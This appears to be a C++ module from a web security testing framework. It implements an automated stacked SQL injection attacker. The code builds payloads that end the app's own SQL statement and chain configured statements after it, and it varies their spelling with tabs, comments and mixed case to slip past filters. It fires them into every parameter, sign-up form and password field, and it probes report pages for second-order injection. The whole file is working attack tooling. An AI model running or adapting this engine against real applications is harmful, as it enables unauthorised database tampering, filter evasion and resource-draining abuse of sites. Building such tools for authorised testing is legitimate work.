// sql-stacked: ends the app's statement and starts one of its own, in every parameter there is.
// Nothing of it need be seen in an answer (a log's INSERT shows none), so it fires and goes on;
// what changed is read off the world. And by the side doors: what only writes down what came may
// paste it.
#include <algorithm>
#include <span>

#include "core/attack/every_agent.h"
#include "core/attack/options.h"
#include "core/attack/request_writer.h"
#include "core/attack/session.h"
#include "core/attack/side_doors.h"
#include "core/attack/spelling.h"

namespace parapet::attack {
namespace {

// What may stand between the text and the end of the app's own statement: it has to be whole, or
// nothing after it runs. The later ones fill the columns that an INSERT still expects.
using Ends = std::vector<std::string_view>;

Ends ends_for(Spot const& spot) {
    bool const writes = spot.endpoint->method != "GET";
    if (is_order(spot.get())) return {"", "\""};
    if (is_text(spot.get()))
        return writes ? Ends{"'", "')", "',1)", "',1,1)", "''", "'')"}
                      : Ends{"'", "')", "'))", "''", "'')"};
    return writes ? Ends{"", ")", ",1)", ",1,1)", "'"} : Ends{"", ")", "'"};
}

// Text in the place of a password costs the app a hash each time.
constexpr std::string_view kPasswordEnds[] = {"'", "')"};

class SqlStacked final : public Agent {
    void run(Target& target) override {
        statements_ = split(target.option(option::kStatements), '\n');
        if (statements_.empty()) return;
        std::string const signup = option_or(target, option::kSignup, "signup");
        std::string const login = option_or(target, option::kLogin, "login");
        for (Endpoint const* endpoint : endpoints_to_try(target)) {
            if (endpoint->parameters.empty()) continue;
            if (endpoint->id == signup) {
                fire_everywhere(target, *endpoint);
                continue;
            }
            sign_in_for(target, *endpoint);
            for (std::size_t i = 0; i < endpoint->parameters.size(); ++i) {
                bool const password = endpoint->id == login && i == password_parameter(*endpoint);
                if (password)
                    fire(target, {endpoint, i}, kPasswordEnds, 1);
                else
                    fire(target, {endpoint, i}, ends_for({endpoint, i}), statements_.size() + 1);
            }
        }
        try_side_doors(target);
        target.wait(std::chrono::seconds(1));  // some apps answer before their writes are done
    }

    // The statements one after the other, beginning with one of them. A refused one ends the
    // chain, so each gets its turn to be the first; the spelling changes with it. The last chain
    // is for filters that take words out.
    std::string chain(std::size_t first) const {
        static Spelling const kTabs{Spelling::Case::Mixed, "\t"};
        static Spelling const kComments{Spelling::Case::Capitals, "/**/"};
        bool const last = first == statements_.size();
        Spelling const& spelling = last ? nested_spelling() : first % 2 == 0 ? kTabs : kComments;
        std::string text;
        for (std::size_t i = 0; i < statements_.size(); ++i)
            text += ";" + spelling.write(statements_[(first + i) % statements_.size()]);
        return text + (first % 2 == 0 ? ";--" : ";/*-");
    }

    static std::string payload(Parameter const& parameter, std::string_view end,
                               std::string const& chain) {
        bool const plain_text = is_text(parameter) && !is_order(parameter);
        std::string const start = plain_text ? "x1" : split(parameter.sample + ",1", ',').front();
        return start + std::string(end) + chain;
    }

    void fire(Target& target, Spot const& spot, std::span<std::string_view const> ends,
              std::size_t chains) const {
        std::vector<std::string> const ordinary = samples(*spot.endpoint);
        for (std::string_view end : ends) {
            for (std::size_t first = 0; first < chains; ++first) {
                std::vector<std::string> values = ordinary;
                values[spot.parameter] = payload(spot.get(), end, chain(first));
                target.send(write_request(*spot.endpoint, values));
                use_what_was_stored(target, spot, end);
            }
        }
    }

    // Text that was stored safely may still be pasted later, mostly into a SELECT.
    static void use_what_was_stored(Target& target, Spot const& store, std::string_view end) {
        bool const kept = store.endpoint->method != "GET" && store.endpoint->signed_in;
        bool const ends_select = end.find(',') == std::string_view::npos && end != "'')";
        if (!kept || !ends_select || !is_text(store.get())) return;
        for (Endpoint const* report : report_endpoints(target))
            target.send(write_request(*report, samples(*report)));
    }

    // At sign-up in all fields at once: every account costs the app a hash.
    void fire_everywhere(Target& target, Endpoint const& signup) const {
        std::size_t const username = username_parameter(signup);
        std::size_t const password = password_parameter(signup);
        for (std::string_view end : {"'", "')", "',1)"}) {
            for (std::size_t first = 0; first < statements_.size(); ++first) {
                std::vector<std::string> values;
                for (Parameter const& parameter : signup.parameters)
                    values.push_back(payload(parameter, end, chain(first)));
                if (username < values.size())
                    values[username] = random_word(target, 6) + values[username];
                if (password < values.size()) values[password] = target.surface().attacker.password;
                target.send(write_request(signup, values));
            }
        }
    }

    std::vector<std::string> statements_;
};

}  // namespace

std::unique_ptr<Agent> make_sql_stacked() { return std::make_unique<SqlStacked>(); }

}  // namespace parapet::attack
